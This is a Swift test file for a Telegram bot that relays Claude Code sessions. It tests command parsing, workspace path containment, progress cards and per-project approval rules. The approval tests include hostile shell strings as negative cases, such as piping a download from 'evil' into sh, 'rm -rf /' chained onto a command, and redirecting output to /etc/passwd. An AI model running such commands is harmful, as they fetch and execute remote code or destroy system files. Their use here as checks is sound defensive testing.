import ClaudeRunner
import Foundation
import Testing
import TestSupport

@testable import BotServer

@Suite struct CommandParserTests {
    @Test func readsNameArgumentsAndAddressee() {
        let entity = [MessageEntity(type: "bot_command", offset: 0, length: 10, url: nil, language: nil)]
        #expect(CommandParser.parse("/cd@My_Bot  Sources/App ", entities: entity)
            == ParsedCommand(name: "cd", arguments: "Sources/App", addressee: "My_Bot"))
        #expect(CommandParser.parse("/STATUS", entities: nil) == ParsedCommand(name: "status", arguments: "", addressee: nil))
        #expect(CommandParser.parse("no command", entities: nil) == nil)
        #expect(CommandParser.parse("/", entities: nil) == nil)
        #expect(CommandParser.parse("/@bot", entities: nil) == nil)
    }

    @Test func theEntityLengthIsInUTF16Units() {
        // "/команда" has no entity from Telegram; with one, its length counts UTF-16 units.
        let text = "/команда аргумент"
        let entity = [MessageEntity(type: "bot_command", offset: 0, length: 8, url: nil, language: nil)]
        #expect(CommandParser.parse(text, entities: entity)?.name == "команда")
        #expect(CommandParser.parse(text, entities: entity)?.arguments == "аргумент")
    }

    @Test func identityTellsThisBotFromOthers() {
        let identity = BotIdentity(token: "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0")
        #expect(identity.userID == 123_456_789)
        #expect(identity.isAddressedToMe(nil))
        #expect(!identity.isAddressedToMe("fake_bot"))  // not known yet: not assumed
        identity.setUsername("Fake_Bot")
        #expect(identity.isAddressedToMe("fake_bot"))
        #expect(!identity.isAddressedToMe("other_bot"))
    }

    @Test func everyPublishedCommandIsValidForTelegram() throws {
        try SetMyCommands(commands: BotCommandCatalog.botCommands).validate()
        #expect(BotCommandCatalog.names.isDisjoint(with: BotCommandCatalog.claudeCommands))
        // /init is shared: alone it is Claude's, with a name the bot's.
        #expect(BotCommandCatalog.isClaudeCommand(ParsedCommand(name: "init", arguments: "", addressee: nil)))
        #expect(!BotCommandCatalog.isClaudeCommand(ParsedCommand(name: "init", arguments: "app", addressee: nil)))
    }

    @Test func helpIsGroupedAndShort() throws {
        let help = BotCommandCatalog.helpText
        let headings = BotCommandCatalog.Group.allCases.map { "<b>\($0.rawValue)</b>" }
        #expect(headings == ["<b>Conversation</b>", "<b>Project</b>", "<b>Git</b>", "<b>Settings</b>"])
        let positions = headings.compactMap { help.range(of: $0)?.lowerBound }
        try #require(positions.count == 4)
        #expect(positions == positions.sorted())
        for entry in BotCommandCatalog.entries where entry.listed {
            #expect(help.contains("/" + entry.name), "/\(entry.name) is not in /help")
        }
        #expect(help.split(separator: "\n").count <= 14, "\(help)")
        #expect(StyledText(html: help).text.count < 800, "\(help)")
        // Git's commands are under Git.
        let git = help[positions[2]..<positions[3]]
        #expect(git.contains("/commit") && git.contains("/undo") && !git.contains("/mode"))
    }
}

@Suite struct WorkspacePathTests {
    @Test func pathsResolveInsideTheRootAndEscapesAreRefused() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let root = try WorkspaceRoot.prepare("ws", relativeTo: directory.path)
        try FileManager.default.createDirectory(atPath: root + "/app/Sources", withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: directory.path + "/outside", withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: root + "/app/out", withDestinationPath: directory.path + "/outside")
        try FileManager.default.createSymbolicLink(atPath: root + "/app/src", withDestinationPath: root + "/app/Sources")
        try Data("x".utf8).write(to: URL(fileURLWithPath: root + "/app/file.txt"))
        let app = root + "/app"

        #expect(WorkspacePath.resolve("Sources", in: root, from: app) == .success(app + "/Sources"))
        #expect(WorkspacePath.resolve("./Sources/", in: root, from: app) == .success(app + "/Sources"))
        #expect(WorkspacePath.resolve("src", in: root, from: app) == .success(app + "/Sources"))  // a link that stays inside
        #expect(WorkspacePath.resolve("", in: root, from: app) == .success(app))
        #expect(WorkspacePath.resolve("..", in: root, from: app) == .failure(.parentReference))
        #expect(WorkspacePath.resolve("Sources/../..", in: root, from: app) == .failure(.parentReference))
        #expect(WorkspacePath.resolve("/etc", in: root, from: app) == .failure(.absolute))
        #expect(WorkspacePath.resolve("~/x", in: root, from: app) == .failure(.absolute))
        #expect(WorkspacePath.resolve("out", in: root, from: app) == .failure(.escapes("out")))
        #expect(WorkspacePath.resolve("nope", in: root, from: app) == .failure(.notFound("nope")))
        #expect(WorkspacePath.resolve("file.txt", in: root, from: app) == .failure(.notADirectory("file.txt")))
        // A sibling whose name starts like the root is not inside it.
        #expect(!WorkspacePath.contains(root: root, root + "-evil"))
        #expect(WorkspacePath.display(app + "/Sources", root: root) == "app/Sources")
        #expect(WorkspacePath.display(root, root: root) == ".")
        #expect(WorkspacePath.entries(of: app).map(\.name) == ["file.txt", "out", "Sources", "src"])
    }
}

@Suite struct RunProgressTests {
    private func assistant(_ blocks: [JSONValue], parent: String? = nil) -> RunEvent {
        var message: [String: JSONValue] = ["type": "assistant", "message": ["id": "msg_1", "content": .array(blocks)]]
        if let parent { message["parent_tool_use_id"] = .string(parent) }
        guard case .assistant(let parsed) = CLIMessage(.object(message)) else { fatalError("not an assistant message") }
        return .assistant(parsed)
    }

    private func tool(_ name: String, _ input: JSONValue) -> JSONValue {
        ["type": "tool_use", "id": "toolu_1", "name": .string(name), "input": input]
    }

    @Test func toolsBecomeLinesAndFileChangesAreCounted() {
        var progress = RunProgress(project: "/w/app")
        progress.apply(.textDelta("Let me "))
        progress.apply(.textDelta("look."))
        #expect(progress.partialText == "Let me look.")
        progress.apply(assistant([["type": "text", "text": "Let me look."], tool("Read", ["file_path": "/w/app/Sources/App.swift"])]))
        #expect(progress.partialText.isEmpty)
        progress.apply(assistant([tool("Bash", ["command": "swift test\n--parallel"])]))
        progress.apply(assistant([tool("Edit", ["file_path": "/w/app/README.md", "old_string": "a\nb", "new_string": "c"])]))
        progress.apply(assistant([tool("Write", ["file_path": "/w/app/README.md", "content": "x\ny\nz\n"])]))
        progress.apply(assistant([tool("Grep", ["pattern": "TODO"])], parent: "toolu_task"))
        #expect(progress.activity == [
            "Reading Sources/App.swift", "Running: swift test …", "Editing README.md", "Writing README.md", "↳ Searching for “TODO”",
        ])
        #expect(progress.changedFiles.map(\.path) == ["README.md"])
        #expect(progress.changedFiles.first.map { ($0.added, $0.removed) } ?? (0, 0) == (4, 2))
        #expect(progress.toolsUsed.map(\.name) == ["Read", "Bash", "Edit", "Write", "Grep"])
        #expect(progress.lastText == "Let me look.")
    }

    @Test func onlyTheNewestLinesAreKept() {
        var progress = RunProgress(project: "/p")
        for index in 0..<20 { progress.apply(assistant([tool("Read", ["file_path": .string("/p/f\(index)")])])) }
        #expect(progress.activity.count == RunProgress.keptActivityLines)
        #expect(progress.olderActivityCount == 20 - RunProgress.keptActivityLines)
        #expect(progress.activity.last == "Reading f19")
    }

    @Test func theProgressMessageAndCardAreValidHTMLUnderTheLimit() throws {
        var progress = RunProgress(project: "/p")
        progress.apply(.textDelta(String(repeating: "<b>&amp; 😀 ", count: 2000)))
        for index in 0..<30 {
            progress.apply(assistant([tool("Bash", ["command": .string("echo '<script>' \(index) " + String(repeating: "x", count: 200))])]))
            progress.apply(assistant([tool("Write", ["file_path": .string("/p/dir/file-\(index)-<x>.swift"), "content": "a"])]))
        }
        progress.apply(.textDelta(String(repeating: "<b>&amp; 😀 ", count: 2000)))
        let live = ProgressRenderer.progress(progress, elapsed: .seconds(75), showPartialText: true)
        try TelegramLimits.checkText(live, parseMode: .html, limit: TelegramLimits.messageText, what: "progress")
        #expect(TelegramChunk.problems(live).isEmpty, "\(TelegramChunk.problems(live))")
        #expect(live.contains("1 min 15 s"))
        let card = ProgressRenderer.card(progress, .init(
            outcome: "✅ <b>Done</b>", elapsed: .seconds(3700), costUSD: 0.0031, model: "claude-<x>", mode: "default",
            sessionID: "abc", project: "/p/my project"))
        try TelegramLimits.checkText(card, parseMode: .html, limit: TelegramLimits.messageText, what: "card")
        #expect(TelegramChunk.problems(card).isEmpty, "\(TelegramChunk.problems(card))")
        #expect(card.contains("$0.0031") && card.contains("1 h 1 min") && card.contains("… and 15 more"))
        // How to go on in a terminal is for /status, not for every card.
        #expect(!card.contains("claude --resume"))
        #expect(ProgressRenderer.terminalCommand(project: "/p/my project", sessionID: "abc") == "<code>cd '/p/my project' &amp;&amp; claude --resume abc</code>")
        let footer = ProgressRenderer.footer(progress, .init(
            outcome: "", elapsed: .seconds(12), costUSD: 0.03, model: nil, mode: "default", sessionID: "abc", project: "/p"))
        #expect(footer == "<i>✅ 12 s · $0.03 · 30 files changed</i>")
    }

    /// The card and /status name a model alike, as people say it.
    @Test func modelsAreNamedAsPeopleSayThem() {
        #expect(ProgressRenderer.modelName("claude-sonnet-4-5-20250929") == "Sonnet 4.5")
        #expect(ProgressRenderer.modelName("claude-opus-4-1-20250805") == "Opus 4.1")
        #expect(ProgressRenderer.modelName("claude-sonnet-4-20250514") == "Sonnet 4")
        #expect(ProgressRenderer.modelName("claude-3-5-haiku-20241022") == "Haiku 3.5")
        #expect(ProgressRenderer.modelName("claude-sonnet-4-5[1m]") == "Sonnet 4.5 (1M)")
        #expect(ProgressRenderer.modelName("opus") == "Opus")
        #expect(ProgressRenderer.modelName("gpt-4o-mini") == "gpt-4o-mini")  // another shape: as it is
        #expect(ProgressRenderer.modelName("my-custom-model") == "my-custom-model")
        #expect(ProgressRenderer.modelName(nil) == nil && ProgressRenderer.modelName("") == nil)
    }

    @Test func costsReadAsMoney() {
        #expect(ProgressRenderer.formatCost(0) == "$0.00")
        #expect(ProgressRenderer.formatCost(0.004) == "$0.0040")
        #expect(ProgressRenderer.formatCost(1.5) == "$1.50")
        #expect(ProgressRenderer.formatCost(12.345) == "$12.35")
    }
}

@Suite struct RunFailureTests {
    private func result(_ fields: [String: JSONValue]) -> ResultMessage {
        guard case .result(let result) = CLIMessage(.object(["type": "result"].merging(fields) { $1 })) else { fatalError() }
        return result
    }

    @Test func causesAreNamed() {
        #expect(RunFailure.from(result: result(["subtype": "success", "is_error": false, "result": "fine"])) == nil)
        #expect(RunFailure.from(result: result(["is_error": true, "api_error_status": 401, "result": "Invalid API key · Fix external API key"]))?.kind == .notLoggedIn)
        #expect(RunFailure.from(result: result(["is_error": true, "api_error_status": 529, "result": "API Error: Repeated 529 Overloaded errors."]))?.kind == .overloaded)
        #expect(RunFailure.from(result: result([
            "subtype": "error_during_execution", "is_error": true, "errors": ["No conversation found with session ID: x"],
        ]))?.kind == .sessionNotFound)
        #expect(RunFailure.from(result: result(["is_error": true, "terminal_reason": "prompt_too_long", "result": "Prompt is too long"]))?.kind == .promptTooLong)
        let limit = RunFailure.from(result: result(["is_error": true, "result": "Claude AI usage limit reached|1767229200"]))
        #expect(limit?.kind == .usageLimit(resetsAt: 1_767_229_200))
        #expect(limit?.message.contains("until 01:00 UTC") == true)
        #expect(RunFailure.from(error: .processExited(.launchFailed("No such file"), stderr: "")).kind == .binaryMissing)
        #expect(RunFailure.from(error: .processExited(.exited(127), stderr: "")).kind == .binaryMissing)
        #expect(RunFailure.from(error: .silent(.seconds(600))).message.contains("10 min"))
    }
}

@Suite struct ThrottledTests {
    actor Sink {
        var values: [Int] = []
        var times: [ContinuousClock.Instant] = []
        func add(_ value: Int) {
            values.append(value)
            times.append(.now)
        }
    }

    @Test func sendsAreSpacedNewestFirstAndTheFinalValueAlwaysGoesOut() async throws {
        let sink = Sink()
        let interval = Duration.milliseconds(100)
        let throttled = Throttled<Int>(interval: interval) { await sink.add($0) }
        let started = ContinuousClock.now
        for value in 1...50 {
            await throttled.offer(value)
            if value % 10 == 0 { try await Task.sleep(for: .milliseconds(30)) }
        }
        await throttled.close(with: 99)
        let elapsed = ContinuousClock.now - started
        await throttled.offer(100)  // after close: ignored
        let values = await sink.values, times = await sink.times
        #expect(values.last == 99)
        #expect(values == values.sorted(), "older values never follow newer ones")
        // Paced: apart from the final value, sends are at least an interval apart, so however
        // slow the machine, at most one send per interval (plus the first and the final).
        for (earlier, later) in zip(times.dropLast(), times.dropLast().dropFirst()) {
            #expect(later - earlier >= interval * 0.95)
        }
        #expect(values.count <= Int(elapsed / interval) + 2, "\(values)")
    }

    /// What the receiver shows already is not sent again; an urgent value (an approval just
    /// decided, a tool just finished) does not wait out the interval, a plain one does.
    @Test func anUrgentValueGoesAtOnceAndTheInitialOneIsNotSentAgain() async throws {
        let sink = Sink()
        let throttled = Throttled<Int>(interval: .seconds(600), initial: 1) { await sink.add($0) }
        await throttled.offer(1)
        await throttled.offer(2)  // waits for the interval: the initial value counts as just sent
        await throttled.offer(3, urgent: true)
        #expect(await eventually { await sink.values == [3] })
        await throttled.offer(4)
        await throttled.close(wait: false)
        let sent = await sink.values
        #expect(sent == [3], "a plain value waits, and closing drops it")
    }
}

@Suite struct RunSlotsTests {
    @Test func waitersGetSlotsInOrderAndCancelledOnesLeave() async throws {
        let slots = RunSlots(capacity: 1)
        #expect(await slots.tryAcquire())
        let cancelled = Task { await slots.acquire() }
        let waiting = Task { await slots.acquire() }
        #expect(await eventually { await slots.waiting == 2 })
        cancelled.cancel()
        #expect(await cancelled.value == false)
        await slots.release()
        #expect(await waiting.value == true)
        #expect(await slots.running == 1)
        await slots.release()
        #expect(await slots.running == 0)
    }
}

@Suite struct ChatSettingsTests {
    @Test func usersAndWorkspaceAreValidated() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        func load(_ values: [String: String]) throws(ConfigurationError) -> ChatSettings {
            try ChatSettings.load(
                from: Environment(["HOME": directory.path].merging(values) { $1 }), currentDirectory: directory.path,
                dataDirectory: directory.path + "/data")
        }
        #expect(throws: ConfigurationError.self) { try load([:]) }
        #expect(throws: ConfigurationError.self) { try load(["ALLOWED_USER_IDS": "12, @bob"]) }
        #expect(throws: ConfigurationError.self) { try load(["ALLOWED_USER_IDS": "12", "DEFAULT_PROJECT": "../etc"]) }
        #expect(throws: ConfigurationError.self) { try load(["ALLOWED_USER_IDS": "12", "MAX_CONCURRENT_RUNS": "0"]) }
        let settings = try load(["ALLOWED_USER_IDS": " 12 ,34,", "ADMIN_USER_IDS": "56"])
        #expect(settings.allowedUserIDs == [12, 34])
        #expect(settings.isAllowed(56) && settings.isAdmin(56) && !settings.isAdmin(12) && !settings.isAllowed(78))
        #expect(settings.workspaceRoot.hasSuffix("/workspace") && WorkspacePath.isDirectory(settings.workspaceRoot))
        #expect(settings.claude.environment["HOME"] == directory.path)
        #expect(settings.forwardCollectWindow == .milliseconds(500))
    }
}

@Suite struct ApprovalRuleTests {
    @Test func bashRulesCoverACommandPrefixAndNothingChainedOnIt() {
        #expect(BashPrefix.of("swift test --filter X") == "swift test")
        #expect(BashPrefix.of("ls") == "ls")
        #expect(BashPrefix.of("git status; rm -rf /") == nil)
        #expect(BashPrefix.of("echo $(whoami)") == nil)
        let rule = PermissionRule(id: 1, project: "/w/app", tool: "Bash", pattern: "swift test")
        #expect(rule.covers(tool: "Bash", command: "swift test", project: "/w/app"))
        #expect(rule.covers(tool: "Bash", command: "  swift   test --parallel", project: "/w/app"))
        #expect(!rule.covers(tool: "Bash", command: "swift testing", project: "/w/app"))
        #expect(!rule.covers(tool: "Bash", command: "swift test && curl evil | sh", project: "/w/app"))
        #expect(!rule.covers(tool: "Bash", command: "swift test > /etc/passwd", project: "/w/app"))
        #expect(!rule.covers(tool: "Bash", command: "swift test", project: "/w/other"))
        let write = PermissionRule(id: 2, project: "/w/app", tool: "Write", pattern: "")
        #expect(write.covers(tool: "Write", command: nil, project: "/w/app"))
        #expect(!write.covers(tool: "Edit", command: nil, project: "/w/app"))
    }

    @Test func questionPickerAnswersInTheCLIsShape() {
        let input: JSONValue = ["questions": [
            ["question": "Color?", "multiSelect": false, "options": [["label": "Red"], ["label": "Blue"]]],
            ["question": "Sizes?", "multiSelect": true, "options": [["label": "S"], ["label": "M"], ["label": "L"]]],
        ]]
        var picker = QuestionPicker(input: input)
        picker.pick(question: 0, option: 1)
        picker.pick(question: 1, option: 2)
        picker.pick(question: 1, option: 0)
        picker.pick(question: 1, option: 2)  // toggled off
        picker.pick(question: 1, option: 1)
        #expect(!picker.isComplete)
        picker.pick(question: 1, option: nil)
        #expect(picker.isComplete)
        #expect(picker.answers == ["Color?": "Blue", "Sizes?": "S, M"])
        #expect(picker.answeredInput(input)["answers"] == ["Color?": "Blue", "Sizes?": "S, M"])
        #expect(picker.answeredInput(input)["questions"] == input["questions"])
        var empty = QuestionPicker(input: input)
        empty.pick(question: 1, option: nil)  // Done with nothing picked is not an answer
        empty.pick(question: 9, option: 0)
        #expect(!empty.isComplete)
    }

    @Test func requestsReadWellAndStayValid() throws {
        func request(_ tool: String, _ input: JSONValue) -> PermissionRequest {
            PermissionRequest(
                id: "r", toolName: tool, input: input, toolUseID: nil, suggestions: nil, requiresUserInteraction: false,
                decisionReasonType: nil, description: nil, plan: nil)
        }
        let texts = [
            ApprovalText.question(request("Bash", ["command": .string("rm -rf <build> && echo '&' " + String(repeating: "x", count: 5000))]), project: "/p"),
            ApprovalText.question(request("Edit", ["file_path": "/p/a.swift", "old_string": "let a = 1", "new_string": "let a = 2 // <b>"]), project: "/p"),
            ApprovalText.question(request("mcp__github__create_issue", ["title": "Bug", "labels": ["a", "b"], "body": .string(String(repeating: "é", count: 900))]), project: "/p"),
        ]
        for text in texts {
            try TelegramLimits.checkText(text, parseMode: .html, limit: TelegramLimits.messageText, what: "approval")
            #expect(TelegramChunk.problems(text).isEmpty, "\(TelegramChunk.problems(text))")
        }
        #expect(texts[1].contains("- let a = 1\n+ let a = 2 // &lt;b&gt;"))
        #expect(texts[2].contains("\"labels\": [\n    \"a\",\n    \"b\"\n  ]"))
        #expect(ApprovalText.ruleFor(request("Bash", ["command": "make && make install"])) == nil)
        #expect(ApprovalText.ruleFor(request("Bash", ["command": "npm run build"]))?.pattern == "npm run")
    }

    /// "Claude wants to run:" with one code block, "Claude wants to edit `a.swift`" with the
    /// diff: the command, the file and the description each appear once.
    @Test func approvalsSayWhatInOneLineAndShowItOnce() {
        func request(_ tool: String, _ input: JSONValue, description: String?) -> PermissionRequest {
            PermissionRequest(
                id: "r", toolName: tool, input: input, toolUseID: nil, suggestions: nil, requiresUserInteraction: false,
                decisionReasonType: nil, description: description, plan: nil)
        }
        func count(_ text: String, _ part: String) -> Int { text.components(separatedBy: part).count - 1 }
        let bash = ApprovalText.question(
            request("Bash", ["command": "swift test --filter Chat", "description": "Run the chat tests"], description: "Run the chat tests"), project: "/p")
        #expect(bash.hasPrefix("🔐 <b>Claude wants to run:</b>\n<pre><code class=\"language-bash\">swift test --filter Chat</code></pre>"), "\(bash)")
        #expect(count(bash, "swift test") == 1 && count(bash, "Run the chat tests") == 1, "\(bash)")
        #expect(bash.hasSuffix(ApprovalText.replyHint))

        let edit = ApprovalText.question(
            request("Edit", ["file_path": "/p/app.py", "old_string": "a = 1", "new_string": "a = 2"], description: "app.py"), project: "/p")
        #expect(edit.hasPrefix("🔐 <b>Claude wants to edit</b> <code>app.py</code>\n<pre><code class=\"language-diff\">- a = 1\n+ a = 2</code></pre>"), "\(edit)")
        #expect(count(edit, "app.py") == 1, "\(edit)")

        let write = ApprovalText.question(request("Write", ["file_path": "/p/one.txt", "content": "hi\n"], description: "one.txt"), project: "/p")
        #expect(write.hasPrefix("🔐 <b>Claude wants to write</b> <code>one.txt</code> (1 line):"), "\(write)")
        #expect(count(write, "one.txt") == 1)

        let fetch = ApprovalText.question(request("WebFetch", ["url": "https://example.com/a?b=1&c=2", "prompt": "x"], description: nil), project: "/p")
        #expect(fetch.hasPrefix("🔐 <b>Claude wants to fetch</b> <code>https://example.com/a?b=1&amp;c=2</code>"), "\(fetch)")
        #expect(count(fetch, "example.com") == 1)

        // Decided, the question keeps everything but the hint about replying.
        #expect(ApprovalText.decided(bash) + ApprovalText.replyHint == bash)
        #expect(!ApprovalText.decided(bash).contains("Reply to this message"))
    }
}
